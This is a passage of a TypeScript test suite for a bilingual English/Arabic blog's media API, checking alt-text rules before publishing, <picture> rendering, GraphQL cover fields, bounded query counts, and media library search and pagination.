      translations: { en: { title: draft.body.data.title, excerpt: 'e', body: `![](${media.image.src})` } },
    });
    expectApiError(refused, 400, 'BAD_USER_INPUT');
    expect(refused.body.details).toMatchObject({ images: 'alt_required', mediaIds: [media.id] });
    // Creating it published straight away is refused too, and writes nothing.
    const posts = await app.db.post.count();
    const direct = await createPost({ status: 'published', coverImage: media.image.src });
    expectApiError(direct, 400, 'BAD_USER_INPUT');
    expect(direct.body.details.images).toBe('alt_required');
    expect(await app.db.post.count()).toBe(posts);

    expect((await app.call(`/api/media/${media.id}`, { method: 'PATCH', token: editor, json: { altAr: 'بالعربية أيضا' } })).status).toBe(200);
    const published = await updatePost(draft.body.data.id, draft.body.data.version, {
      status: 'published',
      translations: { en: { title: draft.body.data.title, excerpt: 'e', body: `![](${media.image.src})` } },
    });
    expect(published.status, JSON.stringify(published.body)).toBe(200);
    expect(published.body.data.status).toBe('PUBLISHED');

    // Shown on a published post: its alt texts cannot be emptied, in either language.
    for (const field of ['altEn', 'altAr']) {
      const emptied = await app.call(`/api/media/${media.id}`, { method: 'PATCH', token: editor, json: { [field]: '   ' } });
      expectApiError(emptied, 400, 'BAD_USER_INPUT');
      expect(emptied.body.details).toEqual({ [field]: 'required' });
    }
    expect((await app.call(`/api/media/${media.id}`, { method: 'PATCH', token: editor, json: { altEn: 'Better English' } })).status).toBe(200);
  });

  it('render as <picture> in the article, with every format and width, its size, and the library alt per language', async () => {
    const media = await uploaded(await photo(), { altEn: 'Dhows in the creek', altAr: 'مراكب في الخور' });
    const post = await createPost({
      status: 'published',
      body: `![](${media.image.src})\n\n![Own words](${media.image.src})`,
      bodyAr: `![](${media.image.src})`,
    });
    expect(post.status, JSON.stringify(post.body)).toBe(201);
    const en = (await app.call(`/api/blogs/${post.body.data.slug}?lang=en`)).body.data.contentHtml as string;
    const ar = (await app.call(`/api/blogs/${post.body.data.slug}?lang=ar`)).body.data.contentHtml as string;
    const avif = media.image.sources.find((source: { type: string }) => source.type === 'image/avif').srcset;
    expect(en).toContain(`<picture><source type="image/avif" srcset="${avif}"`);
    expect(en).toContain('<source type="image/webp" srcset="');
    expect(en).toContain(`src="${media.image.src}" srcset="${media.image.srcset}"`);
    expect(en).toContain('width="400" height="300"');
    expect(en).toContain('alt="Dhows in the creek"');
    expect(en).toContain('alt="Own words"');
    expect(en).toMatch(/style="background-image:url\(data:image\/webp;base64,[A-Za-z0-9+/=]+\)"/);
    expect(ar).toContain('alt="مراكب في الخور"');
    expect(ar).toContain('<picture>');
    // A changed alt text shows at once (no stale rendering kept).
    await app.call(`/api/media/${media.id}`, { method: 'PATCH', token: editor, json: { altEn: 'Dhows at dawn' } });
    expect((await app.call(`/api/blogs/${post.body.data.slug}?lang=en`)).body.data.contentHtml).toContain('alt="Dhows at dawn"');
  });

  it('resolve as Post.cover for a stored cover, and null for an address elsewhere', async () => {
    const media = await uploaded(await photo(), { altEn: 'Cover', altAr: 'غلاف' });
    const stored = await createPost({ status: 'published', coverImage: media.image.src });
    const elsewhere = await createPost({ status: 'published', coverImage: 'https://images.example.com/cover.jpg' });
    const query =
      'query Cover($slug: String!) { post(slug: $slug) { coverImage cover { src srcset width height alt(locale: ar) sources { type } social { url width height } } } }';
    const found = await app.graphql(query, { slug: stored.body.data.slug });
    expect(found.errors).toBeUndefined();
    expect(found.data.post.cover).toEqual({
      src: media.image.src,
      srcset: media.image.srcset,
      width: 400,
      height: 300,
      alt: 'غلاف',
      sources: [{ type: 'image/avif' }, { type: 'image/webp' }],
      social: { url: media.image.social.url, width: 1200, height: 630 },
    });
    const external = await app.graphql(query, { slug: elsewhere.body.data.slug });
    expect(external.data.post).toEqual({ coverImage: 'https://images.example.com/cover.jpg', cover: null });
  });

  it('cost a bounded number of queries: a list of 20 posts with covers as few as a list of 2', async () => {
    await app.db.post.deleteMany();
    for (let n = 0; n < 20; n++) {
      const media = await uploaded(await photo({ width: 64, height: 48 }), { altEn: `Cover ${n}`, altAr: `غلاف ${n}` });
      expect((await createPost({ status: 'published', coverImage: media.image.src, body: `![](${media.image.src})` })).status).toBe(201);
    }
    const { graphql, statements: counter, close } = await countingApp(app);
    try {
      const cost = async (first: number, fields: string) => {
        const before = counter();
        const body = await graphql(`query List($first: Int!) { posts(first: $first) { edges { node { slug ${fields} } } } }`, { first });
        expect(body.errors).toBeUndefined();
        expect(body.data.posts.edges).toHaveLength(first);
        if (fields) expect(body.data.posts.edges.every((edge: { node: { cover: unknown } }) => edge.node.cover !== null)).toBe(true);
        return counter() - before;
      };
      const cover = 'cover { src srcset width height alt(locale: en) placeholder sources { type srcset } social { url } }';
      await cost(2, cover); // warms what the app keeps in memory (settings)
      const few = await cost(2, cover);
      const many = await cost(20, cover);
      const withoutCovers = await cost(20, '');
      expect(many).toBe(few);
      // Covers for the whole page, in one batch: the variants by hash, then their images (with their
      // variants, a statement of its own in Prisma).
      expect(many - withoutCovers).toBeLessThanOrEqual(3);
      // Bodies too: rendered with their images, still a fixed number.
      const bodies = await cost(20, `${cover} translation(locale: en) { bodyHtml }`);
      expect(bodies).toBe(await cost(2, `${cover} translation(locale: en) { bodyHtml }`));
    } finally {
      await close();
    }
  }, 30_000);
});

describe('GET /api/media', () => {
  it('reads no original upload (up to 15 MB each) to list the library, show one image or upload one', async () => {
    await uploaded(await photo({ width: 90, height: 60 }));
    const statements: string[] = [];
    const { app: counted, close } = await countingApp(app, (sql) => statements.push(sql));
    try {
      const get = (path: string) =>
        counted.fetch(new Request(`http://localhost${path}`, { headers: { authorization: `Bearer ${editor}` } }), { ip: '127.0.0.1' });
      const list = await get('/api/media?limit=100');
      expect(list.status).toBe(200);
      const [first] = (await list.json()).data.media;
      expect((await get(`/api/media/${first.id}`)).status).toBe(200);
      const body = form(blob(await photo({ width: 91, height: 61 })));
      const made = await counted.fetch(new Request('http://localhost/api/media', { method: 'POST', body, headers: { authorization: `Bearer ${editor}` } }), {
        ip: '127.0.0.1',
      });
      expect(made.status).toBe(201);
      // The upload writes it; nothing reads it back.
      expect(statements.filter((sql) => /\boriginal\b/.test(sql) && !/^INSERT/i.test(sql))).toEqual([]);
    } finally {
      await close();
    }
  });

  it('lists newest first, searches names and alt texts, and pages', async () => {
    const names = ['souq-lanterns.jpg', 'souq-spices.jpg', 'desert-road.jpg'];
    for (const name of names) await uploaded(await photo(), { name, altAr: name.startsWith('desert') ? 'طريق الصحراء' : undefined });
    const souq = await app.call('/api/media?search=souq', { token: editor });
    expect(souq.status).toBe(200);
    expect(souq.body.data.media.map((media: { name: string }) => media.name)).toEqual(['souq-spices.jpg', 'souq-lanterns.jpg']);
    expect(souq.body.data.pagination).toEqual({ page: 1, limit: 24, total: 2, totalPages: 1 });
    const arabic = await app.call(`/api/media?search=${encodeURIComponent('الصحراء')}`, { token: editor });
    expect(arabic.body.data.media.map((media: { name: string }) => media.name)).toEqual(['desert-road.jpg']);
    const total = await app.db.media.count();
    const page2 = await app.call('/api/media?limit=2&page=2', { token: editor });
    expect(page2.body.data.pagination).toEqual({ page: 2, limit: 2, total, totalPages: Math.ceil(total / 2) });
    const all = await app.db.media.findMany({ orderBy: [{ createdAt: 'desc' }, { id: 'desc' }], select: { id: true } });
    expect(page2.body.data.media.map((media: { id: number }) => media.id)).toEqual(all.slice(2, 4).map((media) => media.id));
    expect((await app.call('/api/media?search=nothing-has-this-name', { token: editor })).body.data).toEqual({
      media: [],
      pagination: { page: 1, limit: 24, total: 0, totalPages: 0 },
    });
  });
});
